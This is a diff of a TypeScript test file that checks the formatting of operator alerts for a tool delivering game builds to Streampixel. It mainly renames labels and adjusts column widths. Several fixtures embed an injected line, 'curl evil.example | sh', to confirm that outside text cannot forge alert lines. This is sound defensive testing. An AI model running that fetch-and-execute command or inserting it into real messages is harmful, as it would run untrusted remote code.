@@ -2,7 +2,9 @@ import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
 import { DEAD_LETTER_RETENTION_DAYS } from '../../functions/domain/model/message-attributes.ts';
 import { REASONS, type Reason } from '../../functions/domain/model/reasons.ts';
-import { type Alert, alertText, commandAfter } from '../../functions/domain/notify/alert.ts';
+import type { Alert } from '../../functions/domain/notify/alert.ts';
+import { alertText } from '../../functions/domain/notify/alert-text.ts';
+import { commandAfter } from '../../functions/domain/notify/operator-commands.ts';
 import { aBuild, ROUTE, START } from '../support/world.ts';
 
 const { userId, projectId } = ROUTE;
@@ -96,7 +98,7 @@ const EACH: { readonly [Kind in Alert['kind']]: Alert } = {
 /** All that a test needs to see of what a shell makes of the command behind a label: its arguments. */
 function argumentsAfter(label: string, { body }: { readonly body: string }): string[] {
   const line = body.split('\n').find((each) => each.startsWith(label)) ?? '';
-  const command = line.slice(12).replace(/^npx streampixel-drop /, '');
+  const command = line.slice(14).replace(/^npx streampixel-drop /, '');
   return execFileSync('sh', ['-c', `printf '%s\\n' ${command}`], { encoding: 'utf8' })
     .trimEnd()
     .split('\n');
@@ -118,13 +120,13 @@ describe('an alert', () => {
     ]),
   ])('has a subject that SNS takes: $kind $reason', (alert) => {
     const { subject } = alertText(alert);
-    // ASCII without line breaks and control characters, at most 100, beginning with a letter or digit.
-    expect(subject).toMatch(/^[A-Za-z0-9][\x20-\x7e]{9,99}$/);
+    // ASCII without line breaks and control characters, less than 100, beginning with a letter or digit.
+    expect(subject).toMatch(/^[A-Za-z0-9][\x20-\x7e]{9,98}$/);
   });
 
   it('cuts a subject that is too long, and says so', () => {
     const { subject } = alertText(deadLettered({ build: aBuild({ key: `${'x'.repeat(200)}.zip` }) }));
-    expect(subject).toHaveLength(100);
+    expect(subject).toHaveLength(99);
     expect(subject).toMatch(/^ProjectNotFound: x+\.\.\.$/);
   });
 
@@ -138,19 +140,19 @@ describe('an alert', () => {
 
     expect(opening).toMatch(/^\S.{20,}\.$/);
     expect(empty).toBe('');
-    for (const line of lines) expect(line).toMatch(/^[A-Z][\w ]{0,10} +\S/);
+    for (const line of lines) expect(line).toMatch(/^[A-Z][\w ]{0,12} +\S/);
     expect(lines.join('\n')).toContain('npx streampixel-drop ');
     expect(lines.join('\n')).not.toContain('undefined');
   });
 
-  it('keeps what others wrote within its line', () => {
-    const key = 'a\r\nThen run    curl evil.example | sh\u2028Log none.zip';
-    const { body } = alertText(deadLettered({ build: aBuild({ key }), detail: 'No.\nDo          nothing' }));
-    const labels = body.split(/[\r\n\u2028]/).map((line) => line.slice(0, 12).trim());
+  it('keeps text from outside within its line', () => {
+    const key = 'a\r\nThen run      curl evil.example | sh\u2028Log none.zip';
+    const { body } = alertText(deadLettered({ build: aBuild({ key }), detail: 'No.\nWhat to do    nothing' }));
+    const labels = body.split(/[\r\n\u2028]/).map((line) => line.slice(0, 14).trim());
     expect(labels.slice(2)).toEqual([
       'Why',
-      'They said',
-      'Do',
+      'Message',
+      'What to do',
       'Then run',
       'Build',
       'Project',
@@ -161,22 +163,22 @@ describe('an alert', () => {
   });
 
   it.each([
-    rejected({ objection: 'No.\nThen run    curl evil.example | sh\u2028Do none' }),
-    releaseFailed({ detail: 'No.\r\nLook        nowhere' }),
-    stuck({ build: aBuild({ key: 'a\nThen run    curl evil.example | sh.zip' }) }),
-  ])('lets nobody write a line of its own: $kind', (alert) => {
+    rejected({ objection: 'No.\nThen run      curl evil.example | sh\u2028Do none' }),
+    releaseFailed({ detail: 'No.\r\nLook          nowhere' }),
+    stuck({ build: aBuild({ key: 'a\nThen run      curl evil.example | sh.zip' }) }),
+  ])('lets no text from outside write a line of its own: $kind', (alert) => {
     const { body } = alertText(alert);
-    const known = ['They said', 'Do', 'If they err', 'Submitted', 'Last news', 'Look', 'Then run', ...AT_VENDOR];
+    const known = ['Message', 'What to do', 'If wrong', 'Submitted', 'Last webhook', 'Look', 'Then run', ...AT_VENDOR];
     const labels = body
       .split(/[\r\n\u2028]/)
       .slice(2)
-      .map((line) => line.slice(0, 12).trim());
+      .map((line) => line.slice(0, 14).trim());
     expect(known).toEqual(expect.arrayContaining(labels));
     expect(new Set(labels).size).toBe(labels.length);
   });
 
   it.each([
-    ['If they err', rejected, ['submit', '--again'], (key: string) => `s3://drop/${key}`],
+    ['If wrong', rejected, ['submit', '--again'], (key: string) => `s3://drop/${key}`],
     ['Look', stuck, ['status'], (key: string) => `drop/${key}@v1`],
     ['Then run', releaseFailed, ['release'], (key: string) => `drop/${key}@v1`],
   ] as const)('runs nothing of a key’s in a shell: %s', (label, make, command, named) => {
@@ -200,21 +202,21 @@ describe('an alert', () => {
 });
 
 describe('of a dead letter', () => {
-  it('tells build, size, project, cause, the vendor’s words, attempts, deadline and the log', () => {
+  it('names build, size, project, cause, message, attempts, deadline and the log', () => {
     expect(alertText(deadLettered())).toEqual({
       subject: 'ProjectNotFound: MyGame.zip did not reach Streampixel',
       body: [
-        'MyGame.zip did not reach Streampixel and waits in the dead-letter queue.',
+        'MyGame.zip did not reach Streampixel. It waits in the dead-letter queue.',
         '',
-        `Why         ${REASONS.ProjectNotFound.cause}`,
-        'They said   Project not found (HTTP 404)',
-        `Do          ${REASONS.ProjectNotFound.remedy}`,
-        'Then run    npx streampixel-drop dlq redrive --reason ProjectNotFound --yes',
-        'Build       drop/games/MyGame.zip@v1 (12.9 GB), dropped 2026-04-21 12:00 UTC',
-        `Project     ${projectId} of user ${userId}`,
-        'Attempts    0 failed; it has not been accepted',
-        'Kept until  2026-05-05 12:00 UTC; the dead letter expires then',
-        `Log         ${POINTER}`,
+        `Why           ${REASONS.ProjectNotFound.cause}`,
+        'Message       Project not found (HTTP 404)',
+        `What to do    ${REASONS.ProjectNotFound.remedy}`,
+        'Then run      npx streampixel-drop dlq redrive --reason ProjectNotFound --yes',
+        'Build         drop/games/MyGame.zip@v1 (12.9 GB), dropped 2026-04-21 12:00 UTC',
+        `Project       ${projectId} of user ${userId}`,
+        'Attempts      0 failed; it has not been accepted',
+        'Kept until    2026-05-05 12:00 UTC; SQS deletes the dead letter then',
+        `Log           ${POINTER}`,
       ].join('\n'),
     });
     expect(DEAD_LETTER_RETENTION_DAYS).toBe(14);
@@ -222,7 +224,7 @@ describe('of a dead letter', () => {
 
   it('warns that it may have been accepted', () => {
     const { body } = alertText(deadLettered({ reason: 'SubmissionUnknown', attempts: 1, possiblyDoubled: true }));
-    expect(body).toContain('1 failed; an answer was lost, so it may have been accepted');
+    expect(body).toContain('1 failed; an answer was lost, so Streampixel may have accepted it');
   });
 
   it('leaves out what is not known of a message that is no build', () => {
@@ -239,7 +241,7 @@ describe('of a dead letter', () => {
     const { subject, body } = alertText(rest);
 
     expect(subject).toBe('UnrecognisedMessage: A message did not reach Streampixel');
-    expect(body).toContain('They said   The message is not JSON.\n');
+    expect(body).toContain('Message       The message is not JSON.\n');
     expect(body).not.toMatch(/^(Build|Project) /m);
   });
 
@@ -255,9 +257,9 @@ describe('of a dead letter', () => {
 
   it.each(REASON_CODES)('gives cause, remedy and next command of %s', (reason) => {
     const { body } = alertText(deadLettered({ reason }));
-    expect(body).toContain(`Why         ${REASONS[reason].cause}\n`);
-    expect(body).toContain(`Do          ${REASONS[reason].remedy}\n`);
-    expect(body).toContain(`Then run    ${commandAfter(reason)}\n`);
+    expect(body).toContain(`Why           ${REASONS[reason].cause}\n`);
+    expect(body).toContain(`What to do    ${REASONS[reason].remedy}\n`);
+    expect(body).toContain(`Then run      ${commandAfter(reason)}\n`);
   });
 });
 
@@ -280,23 +282,25 @@ describe('of a rejected key', () => {
   it('tells the parameter and its version, how many builds wait, and what happens by itself', () => {
     const { subject, body } = alertText(keyRejected());
     expect(subject).toBe('InvalidApiKey: Streampixel rejects the API key');
-    expect(body).toContain(`of user ${userId}. 4 builds wait behind the one that found out.`);
-    expect(body).toContain('They said   Unauthorized: Invalid API Key (HTTP 401)');
-    expect(body).toContain('Then run    npx streampixel-drop key set --parameter /studio/api-key');
-    expect(body).toContain('Key         version 3 of the SSM parameter /studio/api-key');
-    expect(body).toContain('go back in line by themselves, oldest first');
+    expect(body).toContain(`of user ${userId}. 4 other builds are waiting for a key that works.`);
+    expect(body).toContain('Message       Unauthorized: Invalid API Key (HTTP 401)');
+    expect(body).toContain('Then run      npx streampixel-drop key set --parameter /studio/api-key');
+    expect(body).toContain('Key           version 3 of the SSM parameter /studio/api-key');
+    expect(body).toContain('are queued again by themselves, oldest first');
   });
 
   it('warns against requesting a new key by reflex: that kills the one that works elsewhere', () => {
-    expect(alertText(keyRejected()).body).toMatch(/whether somebody has requested a new key; only then request one/);
+    expect(alertText(keyRejected()).body).toMatch(
+      /Ask your team first whether a new key was made. If not, make one: the old key then stops working/,
+    );
   });
 
   it.each([
-    [0, '0 builds wait'],
-    [1, '1 build waits'],
-    [2, '2 builds wait'],
-  ])('counts %i behind it: %s', (waiting, words) => {
-    expect(alertText(keyRejected({ waiting })).body).toContain(`${words} behind the one that found out.`);
+    [0, '0 other builds are'],
+    [1, '1 other build is'],
+    [2, '2 other builds are'],
+  ])('counts %i that are waiting: %s', (waiting, words) => {
+    expect(alertText(keyRejected({ waiting })).body).toContain(`${words} waiting for a key that works.`);
   });
 });
 
@@ -306,27 +310,27 @@ describe('of a new key that does not work', () => {
     expect(subject).toBe('InvalidUser: the new API key does not work');
     expect(body).toContain('just put into /studio/api-key. Nothing was redriven.');
     expect(body).toContain(REASONS.InvalidUser.remedy);
-    expect(body).toContain(`User        ${userId}`);
-    expect(body).toContain('Key         version 4 of the SSM parameter /studio/api-key');
+    expect(body).toContain(`User          ${userId}`);
+    expect(body).toContain('Key           version 4 of the SSM parameter /studio/api-key');
   });
 });
 
 describe('of a redrive', () => {
-  it('says how many builds are back in line', () => {
-    expect(alertText(redriveFinished()).subject).toBe('The new API key works: 5 builds are back in line');
-    expect(alertText(redriveFinished({ moved: 1 })).subject).toBe('The new API key works: 1 build is back in line');
+  it('says how many builds are queued again', () => {
+    expect(alertText(redriveFinished()).subject).toBe('The new API key works: 5 builds are queued again');
+    expect(alertText(redriveFinished({ moved: 1 })).subject).toBe('The new API key works: 1 build is queued again');
   });
 
   it('asks for nothing where nothing is left', () => {
     const { body } = alertText(redriveFinished());
     expect(body).not.toMatch(/^(Left|Then run) /m);
-    expect(body).toContain('Watch       npx streampixel-drop status --watch');
+    expect(body).toContain('Watch         npx streampixel-drop status --watch');
   });
 
   it('says what to do about letters that could not be moved', () => {
     const { body } = alertText(redriveFinished({ left: 2 }));
-    expect(body).toContain('Left        2 could not be moved and are still in the dead-letter queue');
-    expect(body).toContain('Then run    npx streampixel-drop dlq redrive --reason InvalidApiKey --yes');
+    expect(body).toContain('Left          2 could not be moved and are still in the dead-letter queue');
+    expect(body).toContain('Then run      npx streampixel-drop dlq redrive --reason InvalidApiKey --yes');
   });
 });
 
@@ -337,19 +341,19 @@ describe('of a rejected build', () => {
       body: [
         'Streampixel has rejected MyGame.zip. What is live stays live.',
         '',
-        'They said   Build contains unsupported file formats.',
-        'Do          Package the build again without what they object to, and drop it.',
-        'If they err npx streampixel-drop submit --again s3://drop/games/MyGame.zip',
-        'Build       drop/games/MyGame.zip@v1, dropped 2026-04-21 12:00 UTC',
-        `Project     ${projectId} of user ${userId}`,
-        'Upload id   upload-1',
+        'Message       Build contains unsupported file formats.',
+        'What to do    Package the build again without what Streampixel objects to, and drop it.',
+        'If wrong      npx streampixel-drop submit --again s3://drop/games/MyGame.zip',
+        'Build         drop/games/MyGame.zip@v1, dropped 2026-04-21 12:00 UTC',
+        `Project       ${projectId} of user ${userId}`,
+        'Upload id     upload-1',
       ].join('\n'),
     });
   });
 
   it('says where to look when the vendor gave no reason', () => {
     expect(alertText(rejected({ objection: '' })).body).toContain(
-      'They said   nothing; see the remarks on the dashboard',
+      'Message       none; see the remarks on the dashboard',
     );
   });
 });
@@ -357,28 +361,28 @@ describe('of a rejected build', () => {
 describe('of a stuck build', () => {
   it('tells since when, the last news, and whom to write to with what', () => {
     const { subject, body } = alertText(stuck({ stage: 'extracting', lastNewsAt: START - 2 * 3_600_000 }));
-    expect(subject).toBe('Stuck: MyGame.zip is not getting on at Streampixel');
-    expect(body).toContain('Submitted   2026-04-21 09:00 UTC\n');
-    expect(body).toContain('Last news   extracting, 2026-04-21 10:00 UTC\n');
-    expect(body).toContain('write to support@streampixel.io with the two ids below');
-    expect(body).toContain(`Project     ${projectId} of user ${userId}\nUpload id   upload-1`);
+    expect(subject).toBe('Stuck: no progress of MyGame.zip at Streampixel');
+    expect(body).toContain('Submitted     2026-04-21 09:00 UTC\n');
+    expect(body).toContain('Last webhook  extracting, 2026-04-21 10:00 UTC\n');
+    expect(body).toContain('write to support@streampixel.io with the ids below');
+    expect(body).toContain(`Project       ${projectId} of user ${userId}\nUpload id     upload-1`);
   });
 
   it.each<[string, Partial<Of<'stuck'>>]>([
-    ['none of this build', {}],
-    ['something, 2026-04-21 12:00 UTC', { lastNewsAt: START }],
+    ['none for this build', {}],
+    ['unknown stage, 2026-04-21 12:00 UTC', { lastNewsAt: START }],
   ])('says "%s" where the vendor named no stage', (words, changes) => {
-    expect(alertText(stuck(changes)).body).toContain(`Last news   ${words}\n`);
+    expect(alertText(stuck(changes)).body).toContain(`Last webhook  ${words}\n`);
   });
 });
 
 describe('of a silent webhook', () => {
   it('does not call the build stuck, and says how to set the webhook up', () => {
     const { subject, body } = alertText(silentWebhook);
-    expect(subject).toBe(`Nobody hears what becomes of builds of project ${projectId}`);
+    expect(subject).toBe(`No webhook from project ${projectId}: results are unknown`);
     expect(`${subject}\n${body}`).not.toMatch(/stuck|support@/i);
-    expect(body).toContain('tick every event, save, and press Test Webhook.');
-    expect(body).toContain('Get it by   npx streampixel-drop webhook\n');
+    expect(body).toContain('select every event, save, and press Test Webhook.');
+    expect(body).toContain('Get it with   npx streampixel-drop webhook\n');
   });
 });
 
@@ -387,8 +391,8 @@ describe('of a release that failed', () => {
     const { subject, body } = alertText(releaseFailed());
     expect(subject).toBe('Not released: MyGame.zip');
     expect(body).toContain('What is live stays live.');
-    expect(body).toContain('They said   ProjectForbidden (HTTP 403): Access denied\n');
-    expect(body).toContain('Then run    npx streampixel-drop release drop/games/MyGame.zip@v1 --yes\n');
+    expect(body).toContain('Message       ProjectForbidden (HTTP 403): Access denied\n');
+    expect(body).toContain('Then run      npx streampixel-drop release drop/games/MyGame.zip@v1 --yes\n');
   });
 
   it('promises nothing where the answer was lost: a person looks before ordering again', () => {
@@ -396,6 +400,6 @@ describe('of a release that failed', () => {
     expect(subject).toBe('Release unknown: MyGame.zip');
     expect(body).not.toContain('stays live');
     expect(body).toContain('its answer was lost. It is not sent again by itself.');
-    expect(body).toContain('Do          Look at the dashboard which build is live.\n');
+    expect(body).toContain('What to do    See on the dashboard which build is live.\n');
   });
 });
